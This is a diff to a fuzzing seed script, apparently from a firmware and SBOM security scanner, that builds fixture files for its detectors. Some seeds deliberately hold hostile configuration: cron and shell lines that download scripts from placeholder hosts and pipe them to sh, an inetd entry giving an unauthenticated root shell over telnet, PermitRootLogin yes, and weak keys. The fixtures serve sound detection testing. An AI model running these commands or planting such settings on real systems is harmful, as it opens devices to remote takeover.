@@ -4,7 +4,7 @@
 # structure by chance. Seeds are kept small (a few KiB) so mutations stay fast.
 # Needs: squashfs-tools mtd-utils e2fsprogs u-boot-tools device-tree-compiler cpio zip
 #        zstd xz-utils bzip2 lz4 util-linux (mkfs.cramfs) genromfs python3 rpm db5.3-util
-#        umoci skopeo fdisk gdisk qemu-utils.
+#        umoci skopeo fdisk gdisk qemu-utils openssl openssh-client.
 # Usage: fuzz/seeds.sh            (writes fuzz/corpus/*/seed-*; existing seeds are replaced)
 set -euo pipefail
 cd "$(dirname "$0")"
@@ -375,5 +375,73 @@ printf '#!/bin/sh /etc/rc.common\nUSE_PROCD=1\nPROG=/usr/sbin/telnetd\nstart_ser
 seed shell "$tmp/procd" procd
 printf '#!/bin/sh\n. /lib/functions.sh\nD=/usr/sbin/utelnetd\nstart() { ( $D -p ${PORT:-23} -l /bin/sh & ); }\ncase "$1" in start) start ;; esac\ncd /tmp && wget -qO- http://h/x | sh\nsh -c "$(curl -s http://h/y)"\ncat <<EOF > /tmp/a\nx\nEOF\n' > "$tmp/sysv"
 seed shell "$tmp/sysv" sysv
+
+# Multi-file targets (checks, package_dbs): pieces joined by FILE_BREAK (\xffNV\xff), each
+# piece's first byte choosing its path in src/lib.rs (CHECK_PATHS, PACKAGE_PATHS).
+piece() { printf "\\x$(printf %02x "$1")"; cat "$2"; }
+brk() { printf '\xffNV\xff'; }
+printf '::sysinit:/etc/init.d/rcS\nttyS0::respawn:/bin/login\n' > "$tmp/inittab"
+printf '# comment\n1 * * * * wget -q http://198.51.100.7/u -O /tmp/u && sh /tmp/u\n' > "$tmp/cron"
+printf '[Service]\nExecStart=/usr/sbin/httpd -p 8080\n[Install]\nWantedBy=multi-user.target\n' > "$tmp/unit"
+printf 'PasswordAuthentication no\nPermitRootLogin yes\n' > "$tmp/sshd_config"
+printf 'telnet stream tcp nowait root /usr/sbin/telnetd telnetd -l /bin/sh\n' > "$tmp/inetd"
+printf '{"admin_password":"cGFzc3dvcmQxMjM=","api_key":"%s"}\n' "$(head -c 24 /dev/urandom | base64)" > "$tmp/config.json"
+openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:1024 -out "$tmp/rsa.pem" 2>/dev/null
+openssl pkey -in "$tmp/rsa.pem" -outform DER -out "$tmp/rsa.der"
+openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$tmp/ec.pem" 2>/dev/null
+openssl req -x509 -key "$tmp/ec.pem" -subj /CN=fuzz -days 1 -sha1 -out "$tmp/cert.pem" 2>/dev/null
+ssh-keygen -q -t ed25519 -N '' -f "$tmp/ssh_ed25519"
+ssh-keygen -q -t rsa -b 1024 -N '' -f "$tmp/ssh_rsa"
+{ piece 0 "$root/etc/passwd"; brk; piece 1 "$root/etc/shadow"; brk; piece 3 "$tmp/inittab"; brk; piece 2 "$root/etc/init.d/rcS"; } > "$tmp/c-accounts"
+seed checks "$tmp/c-accounts" accounts-init
+{ piece 9 "$tmp/cron"; brk; piece 10 "$tmp/unit"; brk; piece 14 "$tmp/inetd"; brk; piece 11 "$tmp/sshd_config"; } > "$tmp/c-services"
+seed checks "$tmp/c-services" services
+{ piece 4 "$tmp/rsa.pem"; brk; piece 21 "$tmp/rsa.der"; brk; piece 7 "$tmp/cert.pem"; brk; piece 12 "$tmp/ssh_ed25519.pub"; } > "$tmp/c-keys"
+seed checks "$tmp/c-keys" keys
+{ piece 4 "$tmp/ssh_rsa"; brk; piece 8 "$tmp/config.json"; brk; piece 20 "$tmp/ec.pem"; } > "$tmp/c-secrets"
+seed checks "$tmp/c-secrets" secrets
+piece 6 /bin/true > "$tmp/c-elf"
+seed checks "$tmp/c-elf" elf
+head -c 6000 /bin/true > "$tmp/elf-head"
+{ piece 16 "$tmp/elf-head"; brk; piece 13 "$root/etc/init.d/rcS"; } > "$tmp/c-elf-cut"
+seed checks "$tmp/c-elf-cut" elf-cut
+awk 'BEGIN{RS="";ORS="\n\n"} NR<=3' /var/lib/dpkg/status > "$tmp/dpkg"
+printf 'Package: busybox\nVersion: 1.36.1-r2\nArchitecture: mipsel_24kc\nStatus: install user installed\n\n' > "$tmp/opkg"
+printf 'C:Q1abc=\nP:musl\nV:1.2.4-r2\nA:x86_64\no:musl\nF:lib\nR:ld-musl-x86_64.so.1\n\n' > "$tmp/apk"
+printf 'NAME="OpenWrt"\nVERSION="23.05.2"\nID="openwrt"\nVERSION_ID="23.05.2"\n' > "$tmp/os-release"
+{ piece 0 "$tmp/dpkg"; brk; piece 3 /etc/os-release; brk; piece 12 /etc/debian_version; } > "$tmp/p-dpkg"
+seed package_dbs "$tmp/p-dpkg" dpkg
+{ piece 1 "$tmp/opkg"; brk; piece 8 "$tmp/os-release"; } > "$tmp/p-opkg"
+seed package_dbs "$tmp/p-opkg" opkg
+{ piece 2 "$tmp/apk"; brk; piece 3 "$tmp/os-release"; } > "$tmp/p-apk"
+seed package_dbs "$tmp/p-apk" apk
+printf 'xx BusyBox v1.36.1 (2023-11-02 12:00:00 UTC) multi-call binary.\0' > "$tmp/bb"
+printf 'Linux version 6.1.0-13-amd64 (debian-kernel@lists.debian.org) #1 SMP\0vermagic=6.1.0-13-amd64 SMP mod_unload\0' > "$tmp/kernel"
+{ piece 5 "$tmp/bb"; brk; piece 7 "$tmp/kernel"; brk; piece 11 "$tmp/kernel"; } > "$tmp/p-binaries"
+seed package_dbs "$tmp/p-binaries" binaries
+
+# Documents: declared SBOMs (CycloneDX, SPDX; also read as VEX), advisory files, inventories.
+seed sbom_docs ../crates/sbom/tests/golden/openwrt.cdx.json cdx
+seed sbom_docs ../crates/sbom/tests/golden/openwrt.spdx.json spdx
+printf '{"@context":"https://openvex.dev/ns/v0.2.0","statements":[{"vulnerability":{"name":"CVE-2023-0001"},"products":[{"@id":"pkg:deb/debian/openssl@3.0.11"}],"status":"not_affected","justification":"vulnerable_code_not_in_execute_path"}]}\n' > "$tmp/openvex"
+seed sbom_docs "$tmp/openvex" openvex
+for f in ../advisories/osv/*.json ../advisories/nvd/*.json; do
+  seed advisories "$f" "$(basename "$(dirname "$f")")-$(basename "$f")"
+done
+python3 -c '
+import json, sys
+kev = json.load(open("../advisories/kev/known_exploited_vulnerabilities.json"))
+kev["vulnerabilities"] = kev["vulnerabilities"][:5]
+json.dump(kev, open(sys.argv[1], "w"))
+' "$tmp/kev"
+seed advisories "$tmp/kev" kev
+{ printf '\0'; head -c 4000 ../examples/inventory/operators.csv; } > "$tmp/inv-csv"
+seed inventory "$tmp/inv-csv" csv
+python3 -c '
+import csv, json, sys
+rows = list(csv.DictReader(open("../examples/inventory/operators.csv")))[:20]
+open(sys.argv[1], "wb").write(b"\x01" + json.dumps(rows).encode())
+' "$tmp/inv-json"
+seed inventory "$tmp/inv-json" json
 
 du -sh "$C"/* | sed 's/^/seeds: /'
